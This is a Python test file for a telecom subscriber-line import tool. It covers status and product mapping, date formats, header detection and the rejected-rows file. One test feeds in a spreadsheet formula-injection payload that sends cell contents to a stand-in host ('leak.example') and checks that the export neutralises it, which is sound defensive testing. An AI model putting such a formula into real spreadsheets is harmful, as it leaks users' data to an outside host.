# SPDX-License-Identifier: EUPL-1.2
"""No line comes in with a state that it has not: what the file says of status, kinds and products is named before a row is written."""

import csv
import datetime as dt

import pytest

from rollkeeper.access.authority import console_authority
from rollkeeper.imports.choices import BARRED, LineStatus
from rollkeeper.imports.errors import IMPORT_MAP_INVALID, IMPORT_VALUES_UNMAPPED
from rollkeeper.imports.files import scan_file
from rollkeeper.imports.mapping import make_map
from rollkeeper.imports.mapping_guess import propose
from rollkeeper.imports.reject_file import default_path, write_rejected_rows
from rollkeeper.imports.services import import_lines
from rollkeeper.kernel.database import rows
from rollkeeper.kernel.errors import Faults
from rollkeeper.lines.queries import find_line
from tests.entries import entries
from tests.refusals import refusing

ON = dt.date(2011, 12, 1)
RAW = {
    "number": {"column": "phone"}, "service": {"constant": "mobile"}, "activated_on": {"column": "since"},
    "status": {"column": "state", "values": {"ok": "active", "debt": "unpaid", "gone": "left_out", "off": "operator"}},
}  # fmt: skip


def line(n, state="ok", **more):
    return {"phone": f"138{n:08d}", "since": "2011-05-01", "state": state} | more


def take_in(file, raw=RAW):
    seen = scan_file(file)
    made = make_map(raw, named="map.toml", header=seen.header)
    return import_lines(console_authority(), seen, made, refused_file=default_path(file), on=ON)


def test_terminated_lines_are_not_taken_in_and_counted(register, written):
    result = take_in(written([line(1), line(2, "gone"), line(3, "gone", since="")]))

    assert (result.lines, result.left_out, result.refused) == (1, 2, 0)
    assert [find_line(f"+861380000000{n}") is None for n in (1, 2, 3)] == [False, True, True]
    (entry,) = entries("imports:lines:imported")
    assert (entry.facts["left_out"], entry.facts["barred"]) == (2, 0)


@pytest.mark.parametrize(("state", "reason"), [("debt", "unpaid"), ("off", "operator")])
def test_a_barred_line_comes_in_suspended_and_no_command_is_sent(register, written, state, reason):
    result = take_in(written([line(1, state), line(2)]))

    found = find_line("+8613800000001")
    assert (result.lines, result.barred) == (2, 1)
    assert found.state == "suspended"
    assert [r.value for r in found.reasons] == [reason]
    assert find_line("+8613800000002").state == "active"
    assert rows("SELECT count(*) AS n FROM provisioning_command")[0].n == 0


def test_an_unnamed_status_stops_the_import_before_anything_is_written(register, written):
    file = written([line(n) for n in range(30)] + [line(40, "half"), line(41, "quarter")])

    with refusing(IMPORT_VALUES_UNMAPPED, Faults, match="'half', 'quarter'"):
        take_in(file)

    assert rows("SELECT count(*) AS n FROM lines_line")[0].n == 0
    assert rows("SELECT count(*) AS n FROM imports_import")[0].n == 0
    assert not default_path(file).exists()


def test_unnamed_kinds_and_products_stop_it_too_and_all_are_said_at_once(register, written):
    raw = RAW | {
        "service": {"from": [{"column": "product", "values": {"GSM": "mobile"}}]},
        "registration": {
            "name": "name", "address": "address", "document_number": "no", "document_type": "kind",
            "document_types": {"PP": "passport"},
        },
    }  # fmt: skip
    whole = {"name": "Invented", "address": "1 Invented Road", "no": "X1234567"}
    file = written([
        line(1, product="GSM", kind="PP", **whole), line(2, product="IPTV", kind="Officer card", **whole),
    ])  # fmt: skip

    with pytest.raises(Faults) as refused:
        take_in(file, raw)

    assert {fault.facts["column"] for fault in refused.value.faults} == {"product", "kind"}
    assert "Officer card" in str(refused.value)


def test_what_a_person_leaves_out_by_name_is_left_out(register, written):
    raw = RAW | {
        "service": {"from": [{"column": "product", "values": {"GSM": "mobile"}, "left_out": ["IPTV"]}]},
        "registration": {
            "name": "name", "address": "address", "document_number": "no", "document_type": "kind",
            "document_types": {"PP": "passport"}, "left_out": ["Officer card"],
        },
    }  # fmt: skip
    whole = {"name": "Invented", "address": "1 Invented Road", "no": "X1234567"}

    result = take_in(
        written([
            line(1, product="GSM", kind="PP", **whole), line(2, product="IPTV", kind="PP", **whole),
            line(3, product="GSM", kind="Officer card", **whole),
        ]),
        raw,
    )  # fmt: skip

    assert (result.lines, result.left_out, result.registered, result.refused) == (2, 1, 1, 0)


def test_values_that_may_be_a_persons_are_counted_and_not_shown(register, written):
    file = written([line(n, f"Invented Person {n}") for n in range(50)])

    with refusing(IMPORT_VALUES_UNMAPPED, Faults, match="50 different ones") as refused:
        take_in(file)

    assert "Invented Person" not in str(refused.value)


def test_every_status_but_active_and_left_out_is_a_reason_for_suspension():
    assert set(BARRED) == set(LineStatus) - {LineStatus.ACTIVE, LineStatus.LEFT_OUT}


def proposal_of(file):
    return propose(scan_file(file), country="CN", as_of=ON, duty=False)


@pytest.mark.parametrize(
    ("heading", "values", "statuses"),
    [
        ("用户状态", ["正常", "停机", "欠费停机", "挂失", "拆机", "销户"], ["active", "operator", "unpaid", "lost_or_stolen", "left_out", "left_out"]),
        ("status", ["Active", "Suspended", "Barred", "Terminated", "Ported out"], ["active", "operator", "operator", "left_out", "left_out"]),
        ("Estado", ["Activo", "Suspendido por impago", "Baja"], ["active", "unpaid", "left_out"]),
        ("STATUT", ["Actif", "Suspendu", "Résilié"], ["active", "operator", "left_out"]),
        ("Статус", ["Активен", "Заблокирован", "Расторгнут"], ["active", "operator", "left_out"]),
        ("Durum", ["Aktif", "İptal"], ["active", "left_out"]),
        ("col7", ["active", "suspended", "terminated"], ["active", "operator", "left_out"]),
    ],
)  # fmt: skip
def test_the_status_of_lines_is_proposed_from_the_values(written, heading, values, statuses):
    records = [{"手机号": f"138{n:08d}", "入网日期": "2011-05-01", heading: v} for n, v in enumerate(values)]

    proposal = proposal_of(written(records))

    assert proposal.raw["status"] == {"column": heading, "values": dict(zip(values, statuses, strict=True))}
    assert not proposal.needs


def test_a_status_that_no_dictionary_knows_is_missing_and_asked_for(written):
    records = [line(n) | {"status": s} for n, s in enumerate(["Active", "Zombie", "Active"])]

    proposal = proposal_of(written([{k: v for k, v in r.items() if k != "state"} for r in records]))

    assert proposal.raw["status"]["values"] == {"Active": "active"}
    assert any("'Zombie'" in need for need in proposal.needs)


def test_a_status_at_the_end_of_a_long_file_is_found_too(written):
    records = [{"手机号": f"138{n:08d}", "入网日期": "2011-05-01", "状态": "正常"} for n in range(2_500)]
    records[-1]["状态"] = "未知状态"

    assert any("未知状态" in need for need in proposal_of(written(records)).needs)


def test_products_are_read_as_services(written):
    names = ["畅享5G移动电话", "家庭宽带100M", "固定电话", "移动电话"]
    records = [
        {"手机号": f"138{n:08d}", "入网日期": "2011-05-01", "产品名称": name} for n, name in enumerate(names)
    ]

    (source,) = proposal_of(written(records)).raw["service"]["from"]

    assert source["values"] == dict(
        zip(names, ["mobile", "internet_access", "fixed_line", "mobile"], strict=True)
    )


# ---- dates of several forms ----


def test_dates_of_several_forms_are_read_and_a_date_of_two_days_is_refused(register, written):
    raw = RAW | {"activated_on": {"column": "since", "formats": ["%Y-%m-%d", "%d/%m/%Y", "%m/%d/%Y"]}}
    file = written([
        line(1), line(2, since="25/12/2010"), line(3, since="12/25/2010"), line(4, since="03/07/2009"), line(5, since=""),
    ])  # fmt: skip

    result = take_in(file, raw)

    assert (result.lines, result.refused) == (3, 2)
    assert {find_line(f"+861380000000{n}").activated_on for n in (2, 3)} == {dt.date(2010, 12, 25)}


def test_a_policy_says_what_ambiguous_and_unknown_dates_are(register, written):
    raw = RAW | {
        "activated_on": {
            "column": "since", "formats": ["%d/%m/%Y", "%m/%d/%Y"], "ambiguous": "first", "unknown": "2000-01-01",
        }
    }  # fmt: skip

    result = take_in(written([line(1, since="03/07/2009"), line(2, since=""), line(3, since="soon")]), raw)

    days = [find_line(f"+861380000000{n}").activated_on for n in (1, 2, 3)]
    assert result.refused == 0
    assert days == [dt.date(2009, 7, 3), dt.date(2000, 1, 1), dt.date(2000, 1, 1)]


def test_one_format_and_a_list_of_them_are_not_both_given():
    raw = RAW | {"activated_on": {"column": "since", "format": "%Y", "formats": ["%Y-%m-%d"]}}

    with refusing(IMPORT_MAP_INVALID, Faults, match="either format or formats"):
        make_map(raw, named="m", header=("phone", "since", "state"))


# ---- titles above the table, and what was refused ----


def test_rows_above_the_column_names_are_passed_over(register, tmp_path):
    file = tmp_path / "report.csv"
    file.write_text(
        "Subscriber report\n2011-12-01;;\n;;\n手机号;入网日期;状态\n13800000001;2011-05-01;正常\n13800000002;no day;正常\n",
        "utf-8",
    )

    seen = scan_file(file)
    proposal = propose(seen, country="CN", as_of=ON, duty=False)
    result = import_lines(
        console_authority(), seen, make_map(proposal.raw, named="m", header=seen.header), refused_file=default_path(file),
        on=ON,
    )  # fmt: skip

    assert (seen.header_row, proposal.raw["file"]) == (4, {"header_row": 4})
    assert (result.lines, result.refused) == (1, 1)
    with default_path(file).open(encoding="utf-8", newline="") as source:
        assert [row["row"] for row in csv.DictReader(source)] == ["6"]


def test_the_row_of_column_names_can_be_given(tmp_path):
    file = tmp_path / "odd.csv"
    file.write_text("x,y\na,b\n13800000001,2011-05-01\n", "utf-8")

    assert scan_file(file, header_row=2).header == ("a", "b")


def test_rejected_rows_are_written_whole_to_a_file_that_only_its_owner_reads(register, written, tmp_path):
    file = written([line(1), line(2, since="no day"), line(3, phone="x")])
    take_in(file)
    target = tmp_path / "rows.csv"

    written_rows = write_rejected_rows(scan_file(file), default_path(file), target)

    assert written_rows == 2
    assert oct(target.stat().st_mode & 0o777) == "0o600"
    with target.open(encoding="utf-8-sig", newline="") as source:
        assert [row["since"] for row in csv.DictReader(source)] == ["no day", "2011-05-01"]


@pytest.mark.parametrize("before", ["", "Tashi;", "Tashi\t", "Tashi\n"])
def test_rejected_rows_that_are_looked_at_in_a_spreadsheet_hold_no_formula(
    register, written, tmp_path, before
):
    formula = before + '=HYPERLINK("http://leak.example/?"&A2,"x")'
    file = written(
        [{"@note": formula, **line(n, since=since)} for n, since in ((1, "no day"), (2, "2011-05-01"))]
    )
    take_in(file)
    target = tmp_path / "rows.csv"

    write_rejected_rows(scan_file(file), default_path(file), target)

    read = target.read_text("utf-8-sig")
    for as_elsewhere in (
        {},
        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
        {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
    ):
        cells = [cell for row in csv.reader(read.splitlines(keepends=True), **as_elsewhere) for cell in row]
        assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+-@")] == []
    assert scan_file(target).header == ("@note", "phone", "since", "state")


BY_DAYS = {name: part for name, part in RAW.items() if name != "status"} | {
    "status": {"ended_on": "cancel", "barred_on": "susp"}
}


def test_a_day_of_an_end_or_a_bar_says_the_state_where_no_column_does(register, written):
    records = [
        line(1, cancel="", susp=""), line(2, cancel="2011-11-30", susp=""), line(3, cancel="2011-12-01", susp=""),
        line(4, cancel="2011-12-02", susp=""), line(5, cancel="0000-00-00", susp="2011-12-01"), line(6, cancel="NULL", susp="2011-12-02"),
        line(7, cancel="last year", susp=""), line(8, cancel="2011-10-01", susp="2011-09-01"),
    ]  # fmt: skip

    result = take_in(written(records), BY_DAYS)

    found = [find_line(f"+861380000000{n}") for n in range(1, 9)]
    assert [one and one.state for one in found] == [
        "active", None, None, "active", "suspended", "active", None, None,
    ]  # fmt: skip
    assert (result.left_out, result.refused, result.barred) == (3, 1, 1)


def test_a_file_without_a_status_is_searched_for_days_of_ends_and_bars(written):
    file = written([line(n, "", cancel="" if n % 2 else "2011-10-01", susp="" if n % 3 else "2011-11-01") for n in range(9)])  # fmt: skip

    proposal = propose(scan_file(file), country="CN", as_of=ON, duty=False)

    assert proposal.raw["status"] == {"ended_on": "cancel", "barred_on": "susp", "formats": ["%Y-%m-%d"]}
    assert any("'susp' is barred now" in need for need in proposal.needs)


@pytest.mark.parametrize("status", [{"column": "state", "values": {"ok": "active"}, "ended_on": "cancel"}, {}, {"column": "state"}])  # fmt: skip
def test_a_status_is_said_in_one_way(status):
    with refusing(IMPORT_MAP_INVALID):
        make_map(RAW | {"status": status}, named="map.toml", header=("phone", "since", "state", "cancel"))


def test_several_columns_that_look_like_numbers_are_asked_about(written):
    file = written([{"a": f"138{n:08d}", "b": f"139{n:08d}", "since": "2011-05-01"} for n in range(9)])

    proposal = propose(scan_file(file), country="CN", as_of=ON, duty=False)

    assert proposal.needs[0].startswith("which of 'a', 'b' holds the telephone numbers")


def test_seconds_since_1970_are_no_numbers_and_asked_for_as_days(written):
    file = written([{"a": f"138{n:08d}", "created_t": str(1_300_000_000 + 86_400 * n)} for n in range(9)])

    proposal = propose(scan_file(file), country="CN", as_of=ON, duty=False)

    assert proposal.raw["number"] == {"column": "a"}
    assert "seconds since 1970" in proposal.needs[0]
